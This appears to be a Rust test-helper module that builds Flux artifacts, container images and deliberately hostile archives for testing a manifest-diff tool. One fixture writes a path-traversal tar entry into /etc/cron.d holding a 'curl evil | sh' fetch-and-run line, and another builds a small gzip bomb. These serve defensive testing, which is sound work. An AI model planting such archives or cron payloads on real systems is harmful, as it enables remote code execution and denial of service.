//! Building and pushing artifacts shaped like the ones the manifest diff reads: Flux artifacts
//! (one `application/vnd.cncf.flux.content.v1.tar+gzip` layer written the way fluxcd/pkg `oci`
//! Build writes it: a `.` directory entry, relative paths, zeroed owners and times), container
//! images (an OCI image config with labels, N layers), and hostile archives (path traversal,
//! too many entries, a gzip bomb).
#![allow(dead_code)]

use std::io::Write as _;

use super::registry::{sha256, TestRegistry, OCI_MANIFEST_TYPE};

/// A tar+gzip layer of regular files, as `flux push artifact` builds it.
pub fn flux_layer(files: &[(&str, &str)]) -> Vec<u8> {
    let mut builder = tar::Builder::new(Vec::new());
    let mut dir = tar::Header::new_gnu();
    dir.set_entry_type(tar::EntryType::Directory);
    dir.set_mode(0o755);
    dir.set_mtime(0);
    dir.set_size(0);
    builder.append_data(&mut dir, ".", std::io::empty()).unwrap();
    for (path, content) in files {
        let mut h = tar::Header::new_gnu();
        h.set_size(content.len() as u64);
        h.set_mode(0o644);
        h.set_mtime(0);
        builder.append_data(&mut h, path, content.as_bytes()).unwrap();
    }
    gzip(&builder.into_inner().unwrap())
}

pub fn gzip(data: &[u8]) -> Vec<u8> {
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    enc.write_all(data).unwrap();
    enc.finish().unwrap()
}

/// A raw ustar header + data: lets a test write names the tar crate's builder refuses.
fn raw_entry(name: &str, content: &[u8]) -> Vec<u8> {
    let mut h = [0u8; 512];
    h[..name.len()].copy_from_slice(name.as_bytes());
    h[100..107].copy_from_slice(b"0000644");
    h[108..115].copy_from_slice(b"0000000");
    h[116..123].copy_from_slice(b"0000000");
    h[124..135].copy_from_slice(format!("{:011o}", content.len()).as_bytes());
    h[136..147].copy_from_slice(b"00000000000");
    h[156] = b'0';
    h[257..263].copy_from_slice(b"ustar\0");
    h[263..265].copy_from_slice(b"00");
    h[148..156].copy_from_slice(b"        ");
    let sum: u32 = h.iter().map(|&b| u32::from(b)).sum();
    h[148..155].copy_from_slice(format!("{sum:06o}\0").as_bytes());
    let mut out = h.to_vec();
    out.extend_from_slice(content);
    out.resize(out.len().div_ceil(512) * 512, 0);
    out
}

/// A tar+gzip layer with an entry named `../../etc/cron.d/evil`.
pub fn traversal_layer() -> Vec<u8> {
    let mut tar = raw_entry("deploy.yaml", b"kind: ConfigMap\nmetadata: {name: x}\n");
    tar.extend(raw_entry("../../etc/cron.d/evil", b"* * * * * root curl evil | sh\n"));
    tar.extend([0u8; 1024]);
    gzip(&tar)
}

/// A tar+gzip layer with `n` small files.
pub fn many_entries_layer(n: usize) -> Vec<u8> {
    let names: Vec<(String, String)> = (0..n).map(|i| (format!("f{i}.yaml"), format!("i: {i}\n"))).collect();
    let refs: Vec<(&str, &str)> = names.iter().map(|(a, b)| (a.as_str(), b.as_str())).collect();
    flux_layer(&refs)
}

/// A small tar+gzip layer that expands to `mib` MiB of zeros (a gzip bomb in miniature).
pub fn bomb_layer(mib: usize) -> Vec<u8> {
    let zeros = "\n".repeat(mib * 1024 * 1024);
    flux_layer(&[("big.yaml", &zeros)])
}

/// Pushes a Flux-style artifact with this layer and these annotations; returns its digest.
pub async fn push_flux(
    registry: &TestRegistry,
    repo: &str,
    tag: &str,
    layer: &[u8],
    annotations: &[(&str, &str)],
) -> String {
    registry.push_artifact(repo, tag, layer, annotations).await
}

/// Pushes a container image: an OCI image config with `labels`, `layers` small layers.
pub async fn push_image(
    registry: &TestRegistry,
    repo: &str,
    tag: &str,
    labels: &[(&str, &str)],
    layers: usize,
) -> String {
    let labels: serde_json::Map<String, serde_json::Value> =
        labels.iter().map(|(k, v)| (k.to_string(), serde_json::Value::String(v.to_string()))).collect();
    let config = serde_json::to_vec(&serde_json::json!({
        "architecture": "amd64", "os": "linux",
        "config": {"Labels": labels, "Cmd": ["/app"]},
        "rootfs": {"type": "layers", "diff_ids": []},
    }))
    .unwrap();
    registry.push_blob(repo, &config).await;
    let mut descriptors = Vec::new();
    for i in 0..layers {
        let layer = gzip(format!("layer {i} of {tag}").as_bytes());
        registry.push_blob(repo, &layer).await;
        descriptors.push(serde_json::json!({
            "mediaType": "application/vnd.oci.image.layer.v1.tar+gzip", "digest": sha256(&layer), "size": layer.len(),
        }));
    }
    let manifest = serde_json::to_vec(&serde_json::json!({
        "schemaVersion": 2, "mediaType": OCI_MANIFEST_TYPE,
        "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": sha256(&config), "size": config.len()},
        "layers": descriptors,
    }))
    .unwrap();
    registry.push_manifest(repo, tag, OCI_MANIFEST_TYPE, &manifest).await
}

/// The manifests of a small app, version by version: an image tag changes in the
/// Deployment, a NetworkPolicy is added, the Secret's data changes.
pub fn app_files(image_tag: &str, password_b64: &str, with_network_policy: bool) -> Vec<(String, String)> {
    let mut files = vec![
        (
            "deployment.yaml".to_string(),
            format!(
                "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: myapp\n  namespace: shop\nspec:\n  replicas: 2\n  selector:\n    matchLabels: {{app: myapp}}\n  template:\n    metadata:\n      labels: {{app: myapp}}\n    spec:\n      containers:\n        - name: app\n          image: ghcr.io/org/myapp:{image_tag}\n          envFrom:\n            - secretRef: {{name: myapp-db}}\n"
            ),
        ),
        (
            "service.yaml".to_string(),
            "apiVersion: v1\nkind: Service\nmetadata:\n  name: myapp\n  namespace: shop\nspec:\n  selector: {app: myapp}\n  ports: [{port: 80, targetPort: 8080}]\n".to_string(),
        ),
        (
            "secret.yaml".to_string(),
            format!("apiVersion: v1\nkind: Secret\nmetadata:\n  name: myapp-db\n  namespace: shop\ntype: Opaque\ndata:\n  password: {password_b64}\n  username: YXBw\n"),
        ),
    ];
    if with_network_policy {
        files.push((
            "networkpolicy.yaml".to_string(),
            "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata:\n  name: allow-egress\n  namespace: shop\nspec:\n  podSelector: {matchLabels: {app: myapp}}\n  policyTypes: [Egress]\n  egress: [{to: [{namespaceSelector: {}}]}]\n".to_string(),
        ));
    }
    files
}

pub fn layer_of(files: &[(String, String)]) -> Vec<u8> {
    let refs: Vec<(&str, &str)> = files.iter().map(|(a, b)| (a.as_str(), b.as_str())).collect();
    flux_layer(&refs)
}
